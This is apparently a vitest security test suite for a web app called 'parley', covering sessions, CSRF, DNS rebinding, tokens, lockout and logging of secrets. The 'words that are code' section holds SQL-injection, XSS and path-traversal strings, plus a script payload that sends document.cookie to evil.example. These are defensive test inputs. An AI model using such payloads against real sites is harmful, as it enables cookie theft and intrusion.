// What an attacker would try: from another site, with another's identifiers, with words that are code, with a stolen or planted session.
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { openRecord, openStore } from '@parley/record'
import { makeReading, makeReport, on, said } from '@parley/record/testing.ts'
import { Dossier } from '@parley/schema'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { openAccounts } from '../accounts/index.ts'
import { createApp } from '../app.ts'
import { type Levels, levels, PASSWORD } from '../fixture/levels.ts'
import { RATES } from './rate.ts'

let world: Levels
// Many passwords are hashed, which takes its time where a machine is busy.
beforeAll(async () => {
  world = await levels()
}, 120_000)
afterAll(async () => {
  await world.store.close()
  world.accounts.close()
})

const URL_ = 'http://localhost'
const post = (path: string, body: unknown, headers: Record<string, string> = {}, app = world.app) =>
  app.request(`${URL_}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify(body),
  })
const get = (path: string, headers: Record<string, string> = {}, app = world.app) =>
  app.request(`${URL_}${path}`, { headers })

const NAME = 'reviewer AMBER'
async function signIn(name = NAME, headers: Record<string, string> = {}, app = world.app) {
  const response = await post('/api/session', { name, password: PASSWORD }, headers, app)
  const set = response.headers.get('set-cookie') ?? ''
  const cookie = set.split(';')[0]!
  return { response, set, cookie, session: await response.json() }
}
const own = () => world.reports.CLEAR.findings[0]!.id
const accept = () => ({ verdict: 'accept', on: [own()] })

describe('a session', () => {
  test('is a cookie that no script reads and no other site sends', async () => {
    const { set, session } = await signIn()
    expect(set).toMatch(/^parley-session=[\w-]{43};/)
    for (const word of ['HttpOnly', 'SameSite=Strict', 'Path=/']) expect(set).toContain(word)
    expect(session).toMatchObject({ signedIn: true, name: NAME, role: 'reviewer', tlp: 'AMBER' })
    const behind = createApp({
      ...{ record: openRecord(world.store), version: '0', accounts: world.accounts, proxied: true },
    })
    expect((await signIn(NAME, {}, behind)).set).toMatch(/^__Host-parley-session=.*Secure/)
  })

  test('fixation: what was in the browser before is never signed in, and signing in again changes the secret', async () => {
    const planted = `parley-session=${'A'.repeat(43)}`
    const { cookie } = await signIn(NAME, { cookie: planted })
    expect(cookie).not.toBe(planted)
    expect((await (await get('/api/session', { cookie: planted })).json()).signedIn).toBe(false)
    const again = await signIn(NAME, { cookie })
    expect(again.cookie).not.toBe(cookie)
    expect((await (await get('/api/session', { cookie })).json()).signedIn).toBe(false)
    expect((await (await get('/api/session', { cookie: again.cookie })).json()).signedIn).toBe(true)
  })

  test('ends when signed out, when ended from another, when the password changes, and by an admin of the machine', async () => {
    const [a, b, c] = [await signIn(), await signIn(), await signIn()]
    const signed = async (cookie: string) => (await (await get('/api/session', { cookie })).json()).signedIn
    const drop = (path: string, { cookie, session }: typeof a) =>
      world.app.request(`${URL_}${path}`, { method: 'DELETE', headers: { cookie, 'x-csrf-token': session.csrf } })
    expect((await drop('/api/session', a)).status).toBe(200)
    expect(await signed(a.cookie)).toBe(false)
    const { items } = await (await get('/api/sessions', { cookie: c.cookie })).json()
    const mine = items.find((s: { current: boolean }) => s.current).id
    for (const { id } of items) if (id !== mine) expect((await drop(`/api/sessions/${id}`, c)).status).toBe(200)
    expect([await signed(b.cookie), await signed(c.cookie)]).toEqual([false, true])
    expect(world.accounts.endSessions(NAME)).toBeGreaterThan(0)
    expect(await signed(c.cookie)).toBe(false)
  })

  test('of another cannot be ended: its identifier is not there', async () => {
    const victim = await signIn('editor RED')
    const { items } = await (await get('/api/sessions', { cookie: victim.cookie })).json()
    const thief = await signIn()
    const headers = { cookie: thief.cookie, 'x-csrf-token': thief.session.csrf }
    const response = await world.app.request(`${URL_}/api/sessions/${items[0].id}`, { method: 'DELETE', headers })
    expect(response.status).toBe(404)
    expect((await (await get('/api/session', { cookie: victim.cookie })).json()).signedIn).toBe(true)
  })
})

describe('a change from another site', () => {
  test.each<[string, Record<string, string>]>([
    ['by its origin', { origin: 'https://evil.example' }],
    ['by an opaque origin', { origin: 'null' }],
    ['by what the browser says of it', { 'sec-fetch-site': 'cross-site' }],
    ['from a neighbour', { 'sec-fetch-site': 'same-site' }],
  ])('is refused %s, also where nobody signs in', async (_, headers) => {
    const { cookie, session } = await signIn()
    const signed = await post('/api/decisions', accept(), { ...headers, cookie, 'x-csrf-token': session.csrf })
    expect([signed.status, (await signed.json()).code]).toEqual([403, 'forbidden'])
    const local = createApp({ record: openRecord(world.store), version: '0', write: world.store })
    expect((await post('/api/decisions', accept(), headers, local)).status).toBe(403)
    expect((await post('/api/session', { name: NAME, password: PASSWORD }, headers)).status).toBe(403)
  })
  test('is refused without the token of the session, or with another', async () => {
    const { cookie, session } = await signIn()
    expect((await post('/api/decisions', accept(), { cookie })).status).toBe(403)
    expect((await post('/api/decisions', accept(), { cookie, 'x-csrf-token': `${session.csrf}x` })).status).toBe(403)
    expect((await post('/api/decisions', accept(), { cookie, 'x-csrf-token': session.csrf })).status).toBe(200)
  })
  test('is refused in a form that pages may send by themselves', async () => {
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      expect(
        (await post('/api/decisions', accept(), { ...world.as('reviewer', 'RED'), 'content-type': type })).status,
      ).toBe(415)
    }
  })
})

describe('DNS rebinding', () => {
  test.each(['evil.example', 'evil.example:4747', '127.0.0.1.evil.example'])('%s gets nothing', async (host) => {
    for (const path of ['/api/reports', '/api/session', '/health', '/']) {
      const response = await get(path, { host, ...world.as('admin', 'RED') })
      expect([path, response.status]).toEqual([path, 403])
    }
    expect((await post('/mcp', {}, { host, ...world.as('admin', 'RED') })).status).toBe(403)
  })
})

describe('words that are code', () => {
  const NASTY = [
    `'; drop table log; --`,
    `" OR 1=1 --`,
    '<script>alert(1)</script>',
    '{{7*7}}',
    '../../etc/passwd',
    '%00',
    'a" NEAR b*',
    '*',
    '\u202e',
    'NULL',
  ]
  test.each(NASTY)('%s is looked for and nothing else', async (word) => {
    const before = await world.store.revision()
    const q = encodeURIComponent(word)
    const headers = world.as('reviewer', 'RED')
    const asked = [
      'statements',
      'reports',
      'search',
      'findings/attributions',
      'review',
      'agreements',
      'commitments',
      'allegations',
    ]
    for (const path of asked) {
      const response = await get(`/api/${path}?q=${q}&actor=${q}&outlet=${q}`, headers)
      expect([path, response.status]).toEqual([path, 200])
    }
    for (const path of ['reports', 'finding', 'agreements', 'actors', 'events']) {
      expect([path, (await get(`/api/${path}/${q}`, headers)).status]).toEqual([path, 404])
    }
    expect((await post('/api/decisions', { verdict: 'accept', on: [word], reason: word }, headers)).status).toBe(404)
    expect(await world.store.revision()).toBe(before)
  })

  test('in a report stay text: every answer is JSON that no browser takes for a page', async () => {
    const store = openStore(':memory:')
    const script = '<script>fetch("https://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>'
    const report = makeReport(`Upland said that ${script} holds.`, {
      name: `${script}.txt`,
      outlet: script,
      title: script,
      published: on('2031-01-01'),
    })
    await store.addReport(report, makeReading(report, [said(report, 'Upland', 'said', script)]))
    const app = createApp({ record: openRecord(store), version: '0', write: store })
    const paths = Object.keys((await (await get('/api/openapi.json', {}, app)).json()).paths).filter(
      (p) => !p.includes('{'),
    )
    for (const path of [...paths, `/api/reports/${report.id}`, `/api/reports/${encodeURIComponent(script)}`]) {
      const response = await get(path, {}, app)
      expect(response.headers.get('content-type'), path).toMatch(/^application\/(problem\+)?json/)
      expect(response.headers.get('x-content-type-options')).toBe('nosniff')
      const csp = response.headers.get('content-security-policy')!
      expect(csp).toContain("script-src 'self'")
      expect(csp).not.toMatch(/unsafe|\*/)
    }
    await store.close()
  })
})

describe('passwords', () => {
  let now = new Date('2031-01-01T00:00:00Z')
  let accounts: ReturnType<typeof openAccounts>
  beforeEach(async () => {
    accounts = openAccounts(':memory:', () => now)
    await accounts.add('ada', PASSWORD, { role: 'reader' })
  })
  test('five wrong ones lock the account, the right one too, for a while', async () => {
    for (let i = 0; i < 5; i++) expect(await accounts.signIn('ada', 'wrong')).toBeNull()
    expect(await accounts.signIn('ada', PASSWORD)).toBeNull()
    expect(accounts.users()[0]!.locked).toBe('2031-01-01T00:15:00.000Z')
    now = new Date('2031-01-01T00:16:00Z')
    expect(await accounts.signIn('ada', PASSWORD)).not.toBeNull()
    expect(accounts.users()[0]!.locked).toBeNull()
  })
  test('a wrong name and a wrong password are told alike', async () => {
    const [a, b] = [
      await post('/api/session', { name: 'nobody', password: 'x' }),
      await post('/api/session', { name: NAME, password: 'x' }),
    ]
    expect(a.status).toBe(401)
    expect(await a.text()).toBe(await b.text())
  })
  test.each(['short', 'aaaaaaaaaaaaaaaa', 'ada likes rivers'])('%s is refused', async (password) => {
    await expect(accounts.setPassword('ada', password)).rejects.toMatchObject({ code: 'usage' })
  })
  test('sessions end by themselves', async () => {
    const { secret } = (await accounts.signIn('ada', PASSWORD))!
    now = new Date(now.getTime() + 11 * 3_600_000)
    expect(accounts.session(secret)).not.toBeNull()
    now = new Date(now.getTime() + 13 * 3_600_000)
    expect(accounts.session(secret)).toBeNull()
    const { secret: busy } = (await accounts.signIn('ada', PASSWORD))!
    for (let i = 0; i < 17; i++) {
      now = new Date(now.getTime() + 10 * 3_600_000)
      if (i < 16) expect(accounts.session(busy), `${i}`).not.toBeNull()
    }
    expect(accounts.session(busy)).toBeNull()
  })
})

describe('tokens', () => {
  test('do no more than their scopes, and nothing once revoked or ended', async () => {
    const make = (scopes: ('read' | 'propose' | 'decide')[]) =>
      world.accounts.makeToken('reviewer RED', { label: 'x', scopes })
    const bearer = (secret: string) => ({ authorization: `Bearer ${secret}` })
    const read = make(['read'])
    expect((await get('/api/reports', bearer(read.secret))).status).toBe(200)
    expect((await post('/api/decisions', accept(), bearer(read.secret))).status).toBe(403)
    const propose = make(['propose'])
    expect((await post('/api/decisions', accept(), bearer(propose.secret))).status).toBe(403)
    const proposal = { verdict: 'propose', on: [own()], proposes: 'accept', reason: 'x' }
    expect((await post('/api/decisions', proposal, bearer(propose.secret))).status).toBe(200)
    const decide = make(['decide'])
    expect((await post('/api/decisions', accept(), bearer(decide.secret))).status).toBe(200)
    world.accounts.revokeToken(decide.token.id)
    expect((await get('/api/reports', bearer(decide.secret))).status).toBe(401)
    const old = world.accounts.makeToken('reviewer RED', { label: 'x', scopes: ['read'], ends: '2031-06-14' })
    expect((await get('/api/reports', bearer(old.secret))).status).toBe(401)
    const low = world.accounts.makeToken('reviewer RED', { label: 'x', scopes: ['read'], tlp: 'CLEAR' })
    expect((await (await get('/api/reports', bearer(low.secret))).json()).total).toBe(1)
  })
  test('are taken in a header alone, and a bad one is not passed over for a good cookie', async () => {
    const { cookie } = await signIn()
    expect((await get('/api/reports', { cookie, authorization: 'Bearer parley_no' })).status).toBe(401)
    const { secret } = world.accounts.makeToken('reviewer RED', { label: 'x', scopes: ['read'] })
    expect((await get(`/api/reports?token=${secret}&access_token=${secret}`)).status).toBe(401)
  })
})

describe('secrets', () => {
  test('are in no log, and in no file as they are', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'parley-accounts-'))
    const file = join(folder, 'a.accounts')
    const accounts = openAccounts(file)
    await accounts.add('ada', PASSWORD, { role: 'reviewer', tlp: 'RED' })
    const { secret } = accounts.makeToken('ada', { label: 'x', scopes: ['decide'] })
    const lines: string[] = []
    const app = createApp({
      record: openRecord(world.store),
      version: '0',
      accounts,
      write: world.store,
      log: (h) => lines.push(JSON.stringify(h)),
    })
    const { cookie, session } = await signIn('ada', {}, app)
    await post('/api/session', { name: 'ada', password: 'a wrong passphrase' }, {}, app)
    await get(`/api/statements?q=${encodeURIComponent('secret words')}`, { authorization: `Bearer ${secret}` }, app)
    await get('/api/reports', { authorization: 'Bearer parley_stolen' }, app)
    await post(
      '/api/decisions',
      { ...accept(), reason: 'a private reason' },
      { cookie, 'x-csrf-token': session.csrf },
      app,
    )
    await post('/api/tokens', { label: 'y', scopes: ['read'] }, { cookie, 'x-csrf-token': session.csrf }, app)
    const log = lines.join('\n')
    expect(lines.length).toBe(6)
    expect(log).toContain('"user":"ada"')
    const planted = [
      PASSWORD,
      'a wrong passphrase',
      secret,
      cookie.split('=')[1]!,
      session.csrf,
      'parley_stolen',
      'secret words',
      'a private reason',
    ]
    for (const word of planted) expect(log.includes(word), word).toBe(false)
    accounts.close()
    const bytes = readFileSync(file, 'latin1')
    for (const word of [PASSWORD, secret, cookie.split('=')[1]!]) expect(bytes.includes(word)).toBe(false)
    expect(bytes).toContain('$argon2id$v=19$m=19456,t=2,p=1$')
    expect(statSync(file).mode & 0o077).toBe(0)
    rmSync(folder, { recursive: true })
  })
})

test('nobody undoes what they may not see', async () => {
  const { id } = world.reports.RED.findings[0]!
  const made = await post('/api/decisions', { verdict: 'accept', on: [id] }, world.as('reviewer', 'RED'))
  const undo = { verdict: 'undo', undoes: (await made.json()).decision.id, reason: 'x' }
  expect((await post('/api/decisions', undo, world.as('reviewer', 'AMBER'))).status).toBe(404)
  expect((await post('/api/decisions', undo, world.as('coder', 'RED'))).status).toBe(403)
  expect((await post('/api/decisions', undo, world.as('reviewer', 'RED'))).status).toBe(200)
})

test('too many requests are refused for a while, each asker for themselves', async () => {
  let now = new Date('2031-01-01T00:00:00Z')
  const limited = createApp({
    ...{ record: openRecord(world.store), version: '0', accounts: world.accounts, now: () => now },
    rates: { ...RATES, read: { every: 1, burst: 3 } },
  })
  const ask = async (who: Record<string, string>) => (await get('/api/kinds', who, limited)).status
  const [a, b] = [world.as('reader', 'GREEN'), world.as('coder', 'GREEN')]
  expect([await ask(a), await ask(a), await ask(a), await ask(a), await ask(b)]).toEqual([200, 200, 200, 429, 200])
  const refused = await get('/api/kinds', a, limited)
  expect([refused.headers.get('retry-after'), (await refused.json()).code]).toEqual(['1', 'too-many'])
  now = new Date('2031-01-01T00:00:02Z')
  expect(await ask(a)).toBe(200)
})

test('without accounts the public reads nothing; with --public, what is marked CLEAR', async () => {
  const options = { record: openRecord(world.store), version: '0', accounts: world.accounts }
  expect((await get('/api/reports', {}, createApp(options))).status).toBe(401)
  const open = createApp({ ...options, open: true })
  expect((await (await get('/api/reports', {}, open)).json()).total).toBe(1)
  expect((await get('/api/users', {}, open)).status).toBe(401)
  expect((await post('/api/decisions', accept(), {}, open)).status).toBe(401)
})

test('an answer is not kept for another: tags differ between those who see different things', async () => {
  const low = await get('/api/reports', world.as('reader', 'GREEN'))
  const high = await get('/api/reports', { ...world.as('reader', 'RED'), 'if-none-match': low.headers.get('etag')! })
  expect(high.status).toBe(200)
  expect(high.headers.get('cache-control')).toBe('private, no-cache')
  expect(high.headers.get('vary')).toContain('authorization')
})

test('a role in one dossier is none in another', async () => {
  const store = openStore(':memory:')
  const dossier = (id: string) =>
    Dossier.parse({ dossier: id, title: id, period: { from: '2031-01-01', to: '2031-12-31' } })
  await store.addDossier(dossier('river'))
  await store.addDossier(dossier('lake'))
  const accounts = openAccounts(':memory:')
  await accounts.add('ada', PASSWORD, { role: 'reader', dossier: 'river' })
  const bearer = { authorization: `Bearer ${accounts.makeToken('ada', { label: 'x', scopes: ['read'] }).secret}` }
  const app = createApp({ record: openRecord(store), version: '0', accounts })
  expect((await get('/api/status?dossier=river', bearer, app)).status).toBe(200)
  expect((await get('/api/status?dossier=lake', bearer, app)).status).toBe(403)
  expect((await get('/api/status', bearer, app)).status).toBe(403)
  await store.close()
})
